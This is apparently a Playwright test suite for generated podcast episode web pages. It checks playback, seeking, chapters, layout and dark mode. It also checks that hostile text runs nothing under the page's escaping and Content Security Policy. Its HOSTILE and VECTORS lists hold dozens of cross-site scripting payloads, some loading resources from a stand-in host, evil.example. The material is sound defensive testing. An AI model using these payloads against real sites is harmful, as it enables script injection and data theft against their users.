"""The pages in a real browser: play, seek, follow; hostile text runs nothing; phone, desktop and dark fit."""

import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import lameenc
import pytest

from feeds import page
from feeds.serve import server
from narrate.model import Episode, Left, Line, Link, Mark, Ms, Role, Script, Segment, Utterance
from narrate.script.html import page as script_page
from narrate.settings import Feed, Show

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.tools,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
]

DAY = datetime(2026, 5, 1, tzinfo=UTC)
SHOW = Show(title="The Quill", base_url="https://audio.example.org/quill/", language="en")
SENTENCES = [(2, "It rains.", ""), (20, "The sea rises.", "Ada"), (22, "She is right.", ""), (41, "Bread is dear.", "")]
MARKS = tuple(
    Mark(Ms(start * 1000), title, level) for start, title, level in [(0, "Rain", 1), (19, "Sea", 2), (40, "Bread", 1)]
)
LINES = tuple(
    Line(Ms(s * 1000), Ms(s * 1000 + 900), text, who, Role.QUOTE if who else Role.COMMENTARY, f"s{s}")
    for s, text, who in SENTENCES
)
TIDES = Episode(
    "g",
    "tides",
    "Tides",
    DAY,
    DAY,
    "tides.mp3",
    1,
    "0",
    Ms(60_000),
    MARKS,
    LINES,
    (Link("mill", "https://x.example/", 1),),
)


def silence(seconds: int) -> bytes:
    encoder = lameenc.Encoder()
    encoder.set_bit_rate(32)
    encoder.set_in_sample_rate(16000)
    encoder.set_channels(1)
    encoder.silence()
    return bytes(encoder.encode(bytes(32000 * seconds)) + encoder.flush())


def put(folder: Path, made: Episode) -> None:
    (folder / made.slug).mkdir(parents=True, exist_ok=True)
    (folder / made.slug / "tides.mp3").write_bytes(silence(60))
    (folder / "feed.xml").write_text(f'<rss><atom:link rel="self" href="{SHOW.base_url}feed.xml"/></rss>')
    for name, data in page.pages(SHOW, Feed(), (made,)).items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(data)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        found = driver.chromium.launch(executable_path=CHROMIUM, args=["--autoplay-policy=no-user-gesture-required"])
        yield found
        found.close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("site")
    put(made, TIDES)
    return made


@pytest.fixture(scope="module")
def site(folder: Path) -> Iterator[str]:
    running = server(folder, port=0)
    threading.Thread(target=running.serve_forever, args=(0.05,), daemon=True).start()
    yield running.address
    running.shutdown()
    running.server_close()


@dataclass
class Watched:
    """A tab, with everything that should not happen in it."""

    tab: Any
    base: str
    wrong: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.tab.on("dialog", self._dismiss)
        self.tab.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        self.tab.on("console", lambda message: self.wrong.append(message.text) if message.type == "error" else None)
        self.tab.on("request", lambda request: self.wrong.append(request.url) if self.is_foreign(request.url) else None)
        self.tab.on("requestfailed", lambda request: self.stopped.append(f"{request.failure} {request.url}"))

    def _dismiss(self, dialog: Any) -> None:
        self.wrong.append("dialog")
        dialog.dismiss()

    def is_foreign(self, url: str) -> bool:
        return not url.startswith((self.base, "blob:"))

    def time(self) -> float:
        return float(self.tab.evaluate("document.querySelector('audio').currentTime"))

    def wait(self, expression: str) -> None:
        """Until it is true; Playwright's own wait needs the eval that our policy forbids."""
        for _ in range(200):
            if self.tab.evaluate(expression):
                return
            self.tab.wait_for_timeout(50)
        raise AssertionError(expression)

    def wait_for_time(self, at_least: float) -> None:
        self.wait(f"document.querySelector('audio').currentTime >= {at_least}")


@pytest.fixture
def tab(browser: Any, site: str) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    watched = Watched(context.new_page(), site)
    watched.tab.goto(site + "tides/")
    yield watched
    assert watched.wrong == []
    context.close()


def test_a_click_on_a_sentence_plays_it_and_the_page_follows(tab: Watched) -> None:
    tab.tab.click("text=The sea rises.")
    tab.wait_for_time(20.2)
    assert tab.time() < 24
    assert tab.tab.text_content("article .now") == "The sea rises."
    assert "Sea" in tab.tab.text_content("nav [aria-current]")
    tab.wait("document.querySelector('article .now').textContent === 'She is right.'")


def test_a_chapters_link_seeks(tab: Watched) -> None:
    tab.tab.click("nav >> text=Bread")
    tab.wait_for_time(40)
    assert tab.tab.text_content("#now").strip() == "Bread"


def test_keys_step_by_chapter_and_pause(tab: Watched) -> None:
    tab.tab.click("nav >> text=Rain")
    tab.wait_for_time(0.1)
    tab.tab.keyboard.press("n")
    tab.wait_for_time(19)
    tab.tab.keyboard.press("n")
    tab.wait_for_time(40)
    tab.tab.keyboard.press("p")
    tab.wait("document.querySelector('audio').currentTime < 21")
    tab.tab.keyboard.press("k")
    assert tab.tab.evaluate("document.querySelector('audio').paused")


def test_the_strip_seeks_and_shows_where_it_is(tab: Watched) -> None:
    box = tab.tab.locator("#strip").bounding_box()
    tab.tab.mouse.click(box["x"] + box["width"] / 2, box["y"] + 5)
    tab.wait_for_time(29)
    assert 480 < float(tab.tab.get_attribute("#head", "x1")) < 560


def test_the_speed_is_kept(tab: Watched) -> None:
    tab.tab.select_option("#speed", "1.5")
    tab.tab.reload()
    assert tab.tab.input_value("#speed") == "1.5"
    assert tab.tab.evaluate("document.querySelector('audio').playbackRate") == 1.5
    tab.tab.select_option("#speed", "1")


def test_an_address_with_a_time_leads_there_without_a_sound(tab: Watched) -> None:
    tab.tab.goto(tab.base + "tides/#t=41")
    tab.tab.reload()
    tab.wait_for_time(41)
    assert tab.tab.evaluate("document.querySelector('audio').paused")
    assert tab.tab.text_content("article .now") == "Bread is dear."


def test_without_script_there_is_a_player_with_links_and_no_dead_control(browser: Any, site: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    tab = context.new_page()
    tab.goto(site + "tides/")
    assert tab.locator("audio").is_visible()
    assert not tab.locator("#speed").is_visible()
    assert tab.get_attribute("nav li:nth-child(2) a", "href") == "tides.mp3#t=19"
    context.close()


def test_the_page_works_from_the_disk(browser: Any, folder: Path) -> None:
    watched = Watched(browser.new_page(), "file:///")
    watched.tab.goto((folder / "tides" / "index.html").as_uri())
    watched.tab.click("text=The sea rises.")
    watched.wait_for_time(20)
    assert watched.tab.evaluate("getComputedStyle(document.querySelector('.player')).position") == "sticky"
    watched.tab.close()
    assert watched.wrong == []


@pytest.mark.parametrize(("width", "height", "scheme"), [(390, 844, "light"), (320, 640, "dark"), (1280, 900, "dark")])
def test_nothing_sticks_out(browser: Any, site: str, width: int, height: int, scheme: str) -> None:
    context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
    tab = context.new_page()
    for path in ("", "tides/"):
        tab.goto(site + path)
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
    context.close()


WAYS_OUT = ('">', "'>", "`>", "</title>", "</style>", "</textarea>", "-->", "]]>")
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/x)'>",
    "<table background=https://evil.example/x>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><use href=https://evil.example/x#a /></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<template><img src=x onerror=alert(1)></template>",
)
VECTORS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<img src=https://evil.example/pixel>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "\u2028<script\x0c>alert(1)</script >",
    "{{constructor.constructor('alert(1)')()}}",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    *(way_out + told for way_out in WAYS_OUT for told in HOSTILE),
)


def hostile() -> tuple[Episode, str]:
    lines = tuple(
        Line(Ms(n * 1000), Ms(n * 1000 + 900), vector, vector, Role.QUOTE, f"s{n}{vector}")
        for n, vector in enumerate(VECTORS)
    )
    marks = tuple(Mark(Ms(n * 1000), vector, 1, "javascript:alert(1)") for n, vector in enumerate(VECTORS))
    links = tuple(
        Link(vector, url) for vector in VECTORS for url in (vector, "javascript:alert(1)", "data:text/html,x")
    )
    all_of_them = " ".join(VECTORS)
    made = replace(
        TIDES, title=all_of_them, subtitle=all_of_them, author=all_of_them, marks=marks, lines=lines, links=links
    )
    segments = tuple(
        Segment(vector, Role.QUOTE, vector, (Utterance(vector, "x", "x"),), speaker=vector, reason=vector)
        for vector in VECTORS
    )
    left = tuple(Left(vector, 1, vector) for vector in VECTORS)
    return made, script_page(Script(all_of_them, "en", (), segments, left, warnings=VECTORS), {}, segments)


def test_hostile_text_runs_nothing_and_asks_nobody(browser: Any, tmp_path: Path) -> None:
    made, script = hostile()
    put(tmp_path, made)
    (tmp_path / "script.html").write_text(script)
    for path in ("index.html", "tides/index.html", "script.html"):
        watched = Watched(browser.new_page(), "file:///")
        watched.tab.goto((tmp_path / path).as_uri())
        watched.tab.wait_for_timeout(150)
        watched.tab.close()
        assert watched.wrong == []


def test_the_watch_would_have_seen_it(browser: Any, tmp_path: Path) -> None:
    (tmp_path / "x.html").write_text("<img src=https://evil.example/pixel onerror=alert(1)>")
    watched = Watched(browser.new_page(), "file:///")
    watched.tab.goto((tmp_path / "x.html").as_uri())
    watched.tab.wait_for_timeout(300)
    watched.tab.close()
    assert "dialog" in watched.wrong
    assert "https://evil.example/pixel" in watched.wrong


def test_the_policy_stops_what_escaping_would_miss(browser: Any, tmp_path: Path) -> None:
    put(tmp_path, TIDES)
    target = tmp_path / "tides" / "index.html"
    hurt = "<script>alert(1)</script><img src=https://evil.example/pixel onerror=alert(1)></main>"
    target.write_text(target.read_text().replace("</main>", hurt))
    watched = Watched(browser.new_page(), "file:///")
    watched.tab.goto(target.as_uri())
    watched.tab.wait_for_timeout(300)
    watched.tab.close()
    assert "dialog" not in watched.wrong
    assert watched.stopped == ["csp https://evil.example/pixel"]
    assert [line for line in watched.wrong if "Content Security Policy" in line]
